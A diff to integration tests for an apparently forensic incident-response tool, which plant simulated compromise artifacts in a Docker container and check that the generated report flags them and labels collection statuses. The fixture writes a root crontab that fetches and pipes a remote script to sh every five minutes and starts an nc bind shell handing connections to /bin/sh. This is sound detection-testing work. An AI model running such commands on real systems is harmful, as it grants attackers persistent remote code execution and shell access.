@@ -84,6 +84,27 @@ fn incident(ns: &str, name: &str) -> Container {
     ]);
     docker::ok(&["exec", "-d", &c.0, "/tmp/.x/sleep", "3600"]);
     docker::ok(&["exec", "-d", &c.0, "nc", "-l", "-p", "4444"]);
+    // A crontab that fetches and runs, and a bind shell with a client connected: nc
+    // hands the connection to sh, which then holds the socket.
+    docker::ok(&[
+        "exec",
+        &c.0,
+        "sh",
+        "-c",
+        "mkdir -p /etc/crontabs && echo '*/5 * * * * wget -qO- http://198.51.100.7/cron | sh' > /etc/crontabs/root",
+    ]);
+    docker::ok(&[
+        "exec", "-d", &c.0, "nc", "-l", "-p", "5555", "-e", "/bin/sh",
+    ]);
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    docker::ok(&[
+        "exec",
+        "-d",
+        &c.0,
+        "sh",
+        "-c",
+        "sleep 3600 | nc 127.0.0.1 5555",
+    ]);
     docker::ok(&[
         "exec",
         "-d",
@@ -191,6 +212,11 @@ fn a_report_shows_each_finding_linked_to_its_evidence_and_runs_nothing_the_targe
     finding("listening-socket", "/nc listens on [::]:4444");
     finding("history-command", "/dev/tcp/10.0.0.1/4444");
     finding("history-command", "fetches code and runs it");
+    finding(
+        "cron-entry",
+        "wget -qO- http://198.51.100.7/cron | sh` runs on a schedule",
+    );
+    finding("shell-socket", "/sh holds a tcp");
     // The evidence table gives each member's sha256, as the manifest has it.
     let manifest = cairn_testkit::archive::Archive::read(&web_archive).manifest();
     let history_sha = manifest
@@ -337,4 +363,133 @@ fn a_set_id_file_added_since_the_image_is_a_finding_from_the_node_route() {
     );
     assert!(li.contains("live_response/drift/drift.jsonl"), "{li}");
     assert!(li.contains("class=\"high\""), "{li}");
+}
+
+/// A reused output directory holds collections of every kind: the index says which is
+/// complete, cut short, failed (the Kubernetes evidence alone) or damaged (cut off
+/// mid-archive), each page opens with its status, a damaged input makes `report` exit
+/// 1, it writes `report/` by default, and a page name for several collections is
+/// refused.
+#[test]
+fn the_index_says_which_collections_are_complete_cut_short_failed_or_damaged() {
+    let Some(chromium) = chromium() else { return };
+    let t = tempfile::tempdir().unwrap();
+    let root = t.path().join("root");
+    std::fs::create_dir_all(root.join("etc")).unwrap();
+    std::fs::write(root.join("etc/hostname"), "web\n").unwrap();
+    std::fs::write(root.join("etc/big"), vec![b'x'; 64 << 10]).unwrap();
+    let ev = t.path().join("ev");
+    std::fs::create_dir(&ev).unwrap();
+    let collector = std::env::var("CAIRN_MUSL_BIN").unwrap();
+    let spec = t.path().join("etc.yaml");
+    std::fs::write(
+        &spec,
+        "artifacts:\n  - description: etc\n    collector: file\n    path: /etc\n",
+    )
+    .unwrap();
+    let collect = |name: &str, extra: &[&str]| {
+        let out = ev.join(format!("shop_{name}_main_20261207T100000Z.tar.zst"));
+        let o = common::env::command(&collector)
+            .args(["collect", "--root"])
+            .arg(&root)
+            .arg("--artifacts")
+            .arg(&spec)
+            .arg("--output")
+            .arg(&out)
+            .args(extra)
+            .output()
+            .unwrap();
+        assert!(
+            matches!(o.status.code(), Some(0 | 4)),
+            "{}",
+            text(&o.stderr)
+        );
+        out
+    };
+    collect("clean", &[]);
+    collect("cut", &["--max-total-size", "1K"]);
+    let whole = std::fs::read(collect("broken", &[])).unwrap();
+    let broken = ev.join("shop_broken_main_20261207T100000Z.tar.zst");
+    std::fs::write(&broken, &whole[..whole.len() / 2]).unwrap();
+    // The Kubernetes evidence of a target whose collection failed.
+    let k8s = ev.join("shop_failed_main_20261207T100000Z.k8s.tar.zst");
+    let mut w =
+        cairn_archive::write::ArchiveWriter::new(std::fs::File::create(&k8s).unwrap(), 0).unwrap();
+    let pod = br#"{"metadata":{"name":"failed","namespace":"shop"}}"#;
+    w.append_bytes(
+        b"k8s/pod.json",
+        &cairn_archive::write::EntryHeader::default(),
+        pod,
+    )
+    .unwrap();
+    std::io::Write::flush(&mut w.finish().unwrap()).unwrap();
+
+    let refused = common::env::command(CAIRN)
+        .arg("report")
+        .arg(&ev)
+        .arg("--output")
+        .arg(t.path().join("r4.html"))
+        .output()
+        .unwrap();
+    assert_eq!(refused.status.code(), Some(2), "{}", text(&refused.stderr));
+    assert!(text(&refused.stderr).contains("give a directory name"));
+    assert!(!t.path().join("r4.html").exists());
+
+    let o = common::env::command(CAIRN)
+        .arg("report")
+        .arg(&ev)
+        .current_dir(t.path())
+        .output()
+        .unwrap();
+    let err = text(&o.stderr);
+    assert_eq!(
+        o.status.code(),
+        Some(1),
+        "a damaged input is not a clean report: {err}"
+    );
+    assert!(err.contains("2 collection(s) damaged or failed"), "{err}");
+    let index = render(
+        &chromium,
+        &t.path().join("report/index.html"),
+        "index-status.png",
+    );
+    assert!(
+        index.contains("2 collection(s) damaged or failed"),
+        "{index}"
+    );
+    let status_of = |name: &str| -> String {
+        let row = index
+            .split("<tr class=\"row\">")
+            .find(|r| r.contains(&format!("shop_{name}_main_")))
+            .unwrap_or_else(|| panic!("no row for {name}: {index}"));
+        row.split("<td class=\"status ")
+            .nth(1)
+            .and_then(|c| c.split('>').nth(1))
+            .and_then(|c| c.split('<').next())
+            .unwrap_or_default()
+            .to_owned()
+    };
+    assert_eq!(status_of("clean"), "complete");
+    assert_eq!(status_of("cut"), "cut short");
+    assert_eq!(status_of("failed"), "failed");
+    assert_eq!(status_of("broken"), "damaged");
+    let broken_page = render(
+        &chromium,
+        &t.path()
+            .join("report/shop_broken_main_20261207T100000Z.html"),
+        "damaged.png",
+    );
+    assert!(
+        broken_page.contains("id=\"status\">DAMAGED: the archive could not be read to its end"),
+        "{broken_page}"
+    );
+    let clean_page = std::fs::read_to_string(
+        t.path()
+            .join("report/shop_clean_main_20261207T100000Z.html"),
+    )
+    .unwrap();
+    assert!(
+        clean_page.contains("id=\"status\">COMPLETE: complete"),
+        "the banner"
+    );
 }
